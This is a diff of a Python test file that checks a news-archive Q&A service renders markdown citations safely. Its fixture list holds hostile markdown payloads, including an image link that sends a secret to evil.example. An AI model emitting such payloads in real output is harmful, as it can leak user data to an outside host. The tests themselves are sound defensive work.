@@ -13,13 +13,13 @@ from markdown_it.token import Token
 from index.local.archive import LocalArchive
 from index.types import Article, Filter
 from qa.ask import Asker
-from qa.service.markdown import write
+from qa.service.markdown import render
 from qa.types import Answer, Citation
 from tests.fakes import HashEmbedder, build_archive, identifier
 
 _OURS = "https://news.example/"
 _HALVES = ("half an image ![click", "half a tag <a href='", "here](https://evil.example) is the other half")
-_HARMFUL = [
+_HOSTILE = [
     "![x](https://evil.example/p.png?q=secret)",
     "[click here](https://evil.example)",
     "[click here][ref] and [ref]: https://evil.example",
@@ -47,7 +47,7 @@ _HARMFUL = [
 ]
 
 
-def _address(article: Article) -> str:
+def _url(article: Article) -> str:
     return f"{_OURS}{article.id}"
 
 
@@ -81,32 +81,32 @@ def _assert_only_ours(text: str) -> None:
     assert not re.search(r"(?<!\\)://|www\.", source)
 
 
-@pytest.mark.parametrize("first", _HARMFUL)
-def test_quotes_stand_in_markdown_to_the_character_and_nothing_in_them_acts(first: str) -> None:
+@pytest.mark.parametrize("first", _HOSTILE)
+def test_quotes_are_exact_and_their_markup_has_no_effect(first: str) -> None:
     answer = _answer(first, *_HALVES, first)
-    written = write(answer, _address)
-    for citation, (start, end) in zip(answer.citations, written.quotes, strict=True):
-        assert written.text[start:end] == citation.text
-    assert all(one[1] < other[0] for one, other in pairwise(written.quotes))
-    _assert_only_ours(written.text)
+    markdown = render(answer, _url)
+    for citation, (start, end) in zip(answer.citations, markdown.quotes, strict=True):
+        assert markdown.text[start:end] == citation.text
+    assert all(first[1] < second[0] for first, second in pairwise(markdown.quotes))
+    _assert_only_ours(markdown.text)
 
 
-def test_a_quote_without_markup_is_no_code() -> None:
+def test_a_quote_without_markup_is_not_code() -> None:
     quote = "L’été 🏊 commence [mal], dit-il : « 5 + 3 = 8 » (voir p. 3) ; @piscine, 50 %, 10 $ & plus !"
-    assert write(_answer(quote), _address).text.startswith(f"{quote} [1]({_OURS}1)")
+    assert render(_answer(quote), _url).text.startswith(f"{quote} [1]({_OURS}1)")
 
 
-@pytest.mark.parametrize("harmful", _HARMFUL)
-def test_titles_outlets_and_questions_are_shown_as_they_are_and_do_not_act(harmful: str) -> None:
-    written = write(_answer("Elle ferme.", title=harmful, source=harmful), _address, asked=harmful)
-    _assert_only_ours(written.text)
-    shown = "".join(token.content for token in _tokens(written.text) if token.type.startswith("text"))
-    assert shown == f"{harmful}Elle ferme. 1Sources:[1] {harmful} · {harmful}"
+@pytest.mark.parametrize("hostile", _HOSTILE)
+def test_titles_outlets_and_questions_are_shown_as_they_are(hostile: str) -> None:
+    markdown = render(_answer("Elle ferme.", title=hostile, source=hostile), _url, question=hostile)
+    _assert_only_ours(markdown.text)
+    shown = "".join(token.content for token in _tokens(markdown.text) if token.type.startswith("text"))
+    assert shown == f"{hostile}Elle ferme. 1Sources:[1] {hostile} · {hostile}"
 
 
-def test_an_address_cannot_end_its_link() -> None:
-    written = write(_answer("Elle ferme."), lambda _: f"{_OURS}a)b`c <d>\\")
-    targets = {token.attrs["href"] for token in _tokens(written.text) if token.type == "link_open"}
+def test_a_url_cannot_end_its_link() -> None:
+    markdown = render(_answer("Elle ferme."), lambda _: f"{_OURS}a)b`c <d>\\")
+    targets = {token.attrs["href"] for token in _tokens(markdown.text) if token.type == "link_open"}
     assert targets == {f"{_OURS}a%29b%60c%20%3Cd%3E%5C"}
 
 
@@ -117,30 +117,30 @@ def test_sources_come_once_each_with_all_their_markers() -> None:
         *_answer("", "Non.").citations[1:],
         Citation(3, article, (12, 24), (0, 0)),
     )
-    listed = write(replace(_answer(), citations=citations), _address).text.partition("Sources:\n\n")[2]
+    listed = render(replace(_answer(), citations=citations), _url).text.partition("Sources:\n\n")[2]
     assert listed == f"- [1] [3] [La piscine]({_OURS}a) · Courrier · 2026-02-10\n- [2] [La piscine]({_OURS}2)"
 
 
 def test_parts_make_up_the_whole_and_each_quote_is_in_one() -> None:
     answer = _answer("Elle ferme.", "Elle rouvre.", "Elle est neuve.")
-    written = write(answer, _address, asked="et la piscine ?")
-    assert written.text == "".join(written.parts)
-    assert written.text.startswith("*et la piscine ?*\n\n")
-    assert all(any(citation.text in part for part in written.parts) for citation in answer.citations)
+    markdown = render(answer, _url, question="et la piscine ?")
+    assert markdown.text == "".join(markdown.parts)
+    assert markdown.text.startswith("*et la piscine ?*\n\n")
+    assert all(any(citation.text in part for part in markdown.parts) for citation in answer.citations)
 
 
 def test_without_an_answer_the_nearest_passages_are_shown_and_nothing_is_quoted(tmp_path: Path) -> None:
     data = build_archive(
-        tmp_path, {f"{n}.txt": f"La piscine {n} ferme. {_HARMFUL[0]} " + "mot " * 200 for n in range(5)}
+        tmp_path, {f"{n}.txt": f"La piscine {n} ferme. {_HOSTILE[0]} " + "mot " * 200 for n in range(5)}
     )
     with LocalArchive(data) as archive:
         asker = Asker(archive, HashEmbedder(), identifier())
         found = asker.ask("la piscine ferme")
         nothing = asker.ask("la piscine ferme", filters=Filter(sources=("Nowhere",)))
     answer = replace(found, text=nothing.text, citations=())
-    written = write(answer, _address)
-    assert written.text.startswith("No passage of the archive answers this.\n\nThe nearest passages:\n\n- [")
-    assert written.text.count("\n- ") == 3
-    assert written.quotes == ()
-    _assert_only_ours(written.text)
-    assert write(nothing, _address).text == nothing.text
+    markdown = render(answer, _url)
+    assert markdown.text.startswith("No passage of the archive answers this.\n\nThe nearest passages:\n\n- [")
+    assert markdown.text.count("\n- ") == 3
+    assert markdown.quotes == ()
+    _assert_only_ours(markdown.text)
+    assert render(nothing, _url).text == nothing.text
